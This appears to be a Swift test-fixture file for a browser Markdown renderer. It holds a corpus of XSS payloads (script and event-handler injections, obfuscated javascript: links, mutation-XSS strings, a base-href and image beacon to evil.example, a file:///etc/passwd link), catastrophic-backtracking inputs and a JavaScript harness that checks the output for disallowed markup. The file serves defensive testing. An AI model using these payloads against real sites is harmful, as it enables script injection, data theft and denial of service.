/// What the Markdown renderer is fed in the browser.
enum MarkdownCorpus {
    /// Texts that try to become script, markup, a request or a deceiving link; families after the usual collections.
    static let hostile: [String] = [
        "<script>window.owned = true</script>", "<img src=/x onerror=\"window.owned=true\">",
        "<svg/onload=window.owned=true>", "<svg><script>window.owned=true</script></svg>",
        "<iframe srcdoc=\"<script>parent.owned=true</script>\"></iframe>", "<body onload=window.owned=true>",
        "<details open ontoggle=window.owned=true>x</details>", "<input autofocus onfocus=window.owned=true>",
        "<style>@import '/stolen.css'</style>", "<link rel=stylesheet href=/stolen.css>", "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=/stolen'>", "<form action=/stolen><button>x</button></form>",
        "<math><mtext><table><mglyph><style><img src=/x onerror=window.owned=true>",
        "<noscript><p title=\"</noscript><img src=/x onerror=window.owned=true>\">",
        "<!--><img src=/x onerror=window.owned=true>",
        "[a](javascript:window.owned=true)", "[a](JaVaScRiPt:window.owned=true)",
        "[a](java\u{9}script:window.owned=true)",
        "[a](\u{1}javascript:window.owned=true)", "[a](javascript\u{A}:window.owned=true)",
        "[a](&#106;avascript:alert(1))",
        "[a](data:text/html,<script>parent.owned=true</script>)", "[a](vbscript:msgbox)", "[a](file:///etc/passwd)",
        "[a](blob:https://x/1)", "[a](//evil.example)", "[a](/oauth2/logout)", "[a](../c/1)",
        "[a](<javascript:window.owned=true>)", "<javascript:window.owned=true>",
        "[a](https://x\" onmouseover=\"window.owned=true)",
        "<https://x\" onmouseover=\"window.owned=true>", "https://x\"onmouseover=window.owned=true",
        "[a](https://good.example\u{202E}moc.live)", "![a](/stolen.png)", "![a](https://evil.example/?q=secret)",
        "![](javascript:window.owned=true)", "[![a](/stolen.png)](javascript:window.owned=true)",
        "[a]: javascript:window.owned=true\n\n[a]", "```\"><script>window.owned=true</script>\nx\n```",
        "```html onload=window.owned=true\n</code></pre><script>window.owned=true</script>\n```",
        "~~~<img src=/x onerror=window.owned=true>\n~~~", "`</code><script>window.owned=true</script>`",
        "| <img src=/x onerror=window.owned=true> | b |\n|--|--|\n| <script>window.owned=true</script> | [x](javascript:0) |",
        "# <img src=/x onerror=window.owned=true>", "> <img src=/x onerror=window.owned=true>",
        "- <img src=/x onerror=window.owned=true>", "1. [a](javascript:window.owned=true)",
        "**<img src=/x onerror=window.owned=true>**",
        "{{constructor.constructor('window.owned=true')()}}", "${window.owned=true}",
        "\\<script>window.owned=true</script>",
        "&lt;script&gt;window.owned=true&lt;/script&gt;", "[a](https://x){onclick=window.owned=true}",
        "<a href=\"javascript:window.owned=true\" id=log name=api class=stop>x</a>",
        "\u{0}<script>\u{0}window.owned=true</script>",
        String(repeating: "> ", count: 200) + "deep", String(repeating: "- ", count: 200) + "deep",
        String(repeating: "**_", count: 500) + "x", String(repeating: "[", count: 3_000),
        String(repeating: "`", count: 3_001),
        String(repeating: "![](", count: 1_000), String(repeating: "*a", count: 2_000),
        "|a|\n|-|\n" + String(repeating: "|x|\n", count: 500),
    ]

    /// The same for the part that colours programs: hostile text as string, comment, word, number and tag of each language, and of
    /// some that are none.
    static let programs = [
        "swift", "js", "c", "java", "go", "rust", "php", "python", "ruby", "sh", "sql", "yaml", "json", "css", "html",
        "xml", "diff", "tsx", "c++", "dockerfile", "__proto__", "constructor", "toString", "hl-string",
        "\"onload=window.owned=true", "<b>",
    ].map { language in
        #"""
        ```\#(language)
        let a = "<script>window.owned=true</script>" + '<img src=/x onerror=window.owned=true>' // <svg onload=window.owned=true>
        /* </code></pre><iframe srcdoc="<script>parent.owned=true</script>"> */ # <base href=//evil.example/>
        -- <style>@import '/stolen.css'</style> `${window.owned=true}` "\"<details open ontoggle=window.owned=true>"
        @@@<img src=/x onerror=window.owned=true>@@@ ///</span><script>window.owned=true</script>///
        func <img src=/x onerror=window.owned=true>(0x<b>1) <a href="javascript:window.owned=true" onclick='window.owned=true'>return</a>
        + <script>window.owned=true</script>
        - <img src=/x onerror=window.owned=true>
        <!-- --!><script>window.owned=true</script> --> &lt;script&gt; "unclosed <details open ontoggle=window.owned=true>
        ```
        """#.replacing("@@@", with: "\u{27}\u{27}\u{27}").replacing("///", with: "\"\"\"")
    }

    /// Texts on which a careless pattern takes minutes, or for ever, where a careful one takes milliseconds.
    static let slow: [String] = {
        let blanks = String(repeating: " ", count: 60_000)
        let columns = String(repeating: "|a", count: 20_000)
        return [
            "# \(blanks)\rx", "# a\(blanks)#\(blanks)x", "|a|\n-\(blanks)x", "|a|\n|-\(blanks)|\(blanks)x",
            "```\(blanks)`",
            String(repeating: "~", count: 60_000) + "`", "- \(blanks)\rx", "- \(blanks)\u{2028}x", "` \(blanks)x`",
            "`\(blanks)x`", String(repeating: "$$x\n", count: 20_000), String(repeating: "\\(x ", count: 50_000),
            String(repeating: "$a ", count: 50_000), "```js\n" + String(repeating: "/* ' ` ", count: 8_000) + "\n```",
            "```html\n" + String(repeating: "<a \"", count: 14_000) + "\n```", "---\(blanks)x",
            "\(columns)\n\(String(repeating: "|-", count: 20_000))\n\(columns)",
        ]
    }()

    /// Markdown and the elements it becomes.
    static let examples: [(markdown: String, html: String)] = [
        ("plain", "<p>plain</p>"),
        ("one\ntwo\n\nthree", "<p>one\ntwo</p><p>three</p>"),
        ("hard  \nbreak\\\nhere", "<p>hard  <br>break<br>here</p>"),
        (
            "**bold** *it* __b__ _i_ ~~gone~~",
            "<p><strong>bold</strong> <em>it</em> <strong>b</strong> <em>i</em> <del>gone</del></p>"
        ),
        ("***both***", "<p><strong><em>both</em></strong></p>"),
        ("snake_case_name 2 * 3 * 4 **open", "<p>snake_case_name 2 * 3 * 4 **open</p>"),
        ("`a < b` ``x`y`` `open", "<p><code>a &lt; b</code> <code>x`y</code> `open</p>"),
        ("\\*no\\* a\\b", "<p>*no* a\\b</p>"),
        (
            "# One\n## Two ##\n####### seven",
            "<h3 class=\"level-1\">One</h3><h4 class=\"level-2\">Two</h4><p>####### seven</p>"
        ),
        (
            "# C#\n#\n# #\n#\t a # b #",
            "<h3 class=\"level-1\">C#</h3><h3 class=\"level-1\"></h3><h3 class=\"level-1\"></h3><h3 class=\"level-1\">a # b</h3>"
        ),
        ("a\r\nb\rc", "<p>a\nb\nc</p>"),
        ("` a ` `  ` ` b`", "<p><code>a</code> <code>  </code> <code> b</code></p>"),
        ("- a\n- b\n  - c\n\nend", "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul><p>end</p>"),
        ("3. x\n4. y", "<ol start=\"3\"><li>x</li><li>y</li></ol>"),
        ("- a\n\n- b", "<ul><li><p>a</p></li><li><p>b</p></li></ul>"),
        ("- [ ] to do\n- [x] done", "<ul><li>☐ to do</li><li>☑ done</li></ul>"),
        ("1. a\n   ```\n   code\n   ```\n2. b", "<ol start=\"1\"><li>a<CODE text>code</CODE></li><li>b</li></ol>"),
        ("> a\n> b\n\nc", "<blockquote><p>a\nb</p></blockquote><p>c</p>"),
        ("---\n***", "<hr><hr>"),
        (
            "```swift\nlet a = 1\n\n  b\n```",
            "<CODE swift><span class=\"hl-keyword\">let</span> a = <span class=\"hl-number\">1</span>\n\n  b</CODE>"
        ),
        ("```\nstill writing", "<CODE text>still writing</CODE>"),
        ("~~~ sh\n```\n~~~", "<CODE sh>```</CODE>"),
        (
            "| a | b |\n|:-:|--:|\n| 1 | x \\| y |",
            "<TABLE><thead><tr><th class=\"align-center\">a</th><th class=\"align-end\">b</th></tr></thead><tbody><tr><td class=\"align-center\">1</td><td class=\"align-end\">x | y</td></tr></tbody></TABLE>"
        ),
        ("a | b\nc", "<p>a | b\nc</p>"),
        ("[t](https://x.example/a_(b) \"title\")", "<p><A https://x.example/a_(b)>t</A></p>"),
        (
            "see https://x.example/a?b=c. Or <mailto:a@b.example>",
            "<p>see <A https://x.example/a?b=c>https://x.example/a?b=c</A>. Or <A mailto:a@b.example>mailto:a@b.example</A></p>"
        ),
        ("(https://x.example/)", "<p>(<A https://x.example/>https://x.example/</A>)</p>"),
        ("![alt](https://x.example/i.png)", "<p><A https://x.example/i.png>Image: alt</A></p>"),
        (
            "$a_1*b*c_2$ costs $5 or $10, \\(x\\) and $ y $",
            "<p><span class=\"math\">a_1*b*c_2</span> costs $5 or $10, <span class=\"math\">x</span> and $ y $</p>"
        ),
        ("$$\n\\int_0^1 x\n$$\n\n$$never", "<div class=\"math\">\\int_0^1 x</div><p>$$never</p>"),
        ("\\[ a < b \\]\nc", "<div class=\"math\">a &lt; b</div><p>c</p>"),
        (
            "```python\n# a\ndef f(x): return \"</code>\" + 1\n```",
            "<CODE python><span class=\"hl-comment\"># a</span>\n<span class=\"hl-keyword\">def</span> <span class=\"hl-call\">f</span>(x): <span class=\"hl-keyword\">return</span> <span class=\"hl-string\">\"&lt;/code&gt;\"</span> + <span class=\"hl-number\">1</span></CODE>"
        ),
        (
            "```html\n<!-- c --><a href=\"x\">t</a>\n```",
            "<CODE html><span class=\"hl-comment\">&lt;!-- c --&gt;</span><span class=\"hl-keyword\">&lt;a</span> href=<span class=\"hl-string\">\"x\"</span>&gt;t<span class=\"hl-keyword\">&lt;/a</span>&gt;</CODE>"
        ),
        (
            "```diff\n+ in\n- out\n```",
            "<CODE diff><span class=\"hl-added\">+ in</span>\n<span class=\"hl-removed\">- out</span></CODE>"
        ),
        ("```constructor\nx = 1\n```", "<CODE constructor>x = 1</CODE>"),
        ("5 < 6 & 7 > 2 <b>no</b>", "<p>5 &lt; 6 &amp; 7 &gt; 2 &lt;b&gt;no&lt;/b&gt;</p>"),
    ]

    /// Shows every text at once and in growing pieces, and looks at what was built.
    static func script(markdown path: String) -> String {
        """
        import { appendMarkdown, MarkdownView } from "\(path)";
        const violations = [];
        addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
        const texts = await (await fetch("/texts.json")).json();
        const elements = new Set(["DIV", "P", "H3", "H4", "H5", "H6", "UL", "OL", "LI", "BLOCKQUOTE", "HR", "BR", "PRE", "CODE",
            "FIGURE", "FIGCAPTION", "BUTTON", "SPAN", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "A", "STRONG", "EM", "DEL",
            "svg", "path"]);
        const attributes = new Set(["class", "start", "href", "title", "target", "rel", "tabindex", "role", "aria-label", "type",
            "viewBox", "aria-hidden", "d"]);
        const classes = /^(level-[1-6]|align-(center|end)|table|code|copy|icon|muted|refused-link|math|hl-(keyword|string|number|type|call|comment|added|removed)|lang-[A-Za-z0-9+#.-]{1,20})$/;
        const strange = [];
        const unequal = [];
        const html = [];
        for (const text of texts) {
            const root = document.body.appendChild(document.createElement("div"));
            appendMarkdown(root, text);
            for (const node of root.querySelectorAll("*")) {
                if (!elements.has(node.nodeName)) strange.push(node.nodeName);
                for (const { name, value } of node.attributes) {
                    if (!attributes.has(name) || (name === "class" && !classes.test(value))) strange.push(`${name}=${value}`);
                }
                if (node.nodeName === "A" && (!["http:", "https:", "mailto:"].includes(node.protocol)
                    || node.target !== "_blank" || node.rel !== "noopener noreferrer nofollow ugc")) strange.push(node.href);
            }
            const growing = document.createElement("div");
            const view = new MarkdownView(growing);
            const step = Math.max(1, Math.ceil(text.length / 60));
            for (let end = step; end < text.length; end += step) view.update(text.slice(0, end));
            view.update(text);
            if (growing.innerHTML !== root.innerHTML) unequal.push(text.slice(0, 100));
            html.push(shortened(root));
            root.querySelectorAll("a").forEach((link) => link.dispatchEvent(new MouseEvent("mouseover")));
        }
        await new Promise((resolve) => setTimeout(resolve, 1000));
        document.body.dataset.result = JSON.stringify({ violations, strange, unequal, html, owned: "owned" in window });

        // Parts with much repeated markup are written short, so that examples can be read.
        function shortened(root) {
            const copy = root.cloneNode(true);
            const parts = [];
            const replace = (node, before, after) => {
                const content = node.innerHTML;
                parts.push(`${before}${content}${after}`);
                node.replaceWith(`\\u{E000}${parts.length - 1}\\u{E001}`);
            };
            for (const link of copy.querySelectorAll("a")) replace(link, `<A ${link.title}>`, "</A>");
            for (const code of copy.querySelectorAll("figure")) {
                const language = code.querySelector("figcaption > span").textContent;
                parts.push(`<CODE ${language}>${code.querySelector("code").innerHTML}</CODE>`);
                code.replaceWith(`\\u{E000}${parts.length - 1}\\u{E001}`);
            }
            for (const table of copy.querySelectorAll(".table")) {
                replace(table, "", "");
                parts[parts.length - 1] = parts.at(-1).replace(/^<table>/, "<TABLE>").replace(/<\\/table>$/, "</TABLE>");
            }
            let text = copy.innerHTML;
            while (/\\u{E000}/u.test(text)) text = text.replace(/\\u{E000}(\\d+)\\u{E001}/gu, (_, index) => parts[index]);
            return text;
        }
        """
    }
}
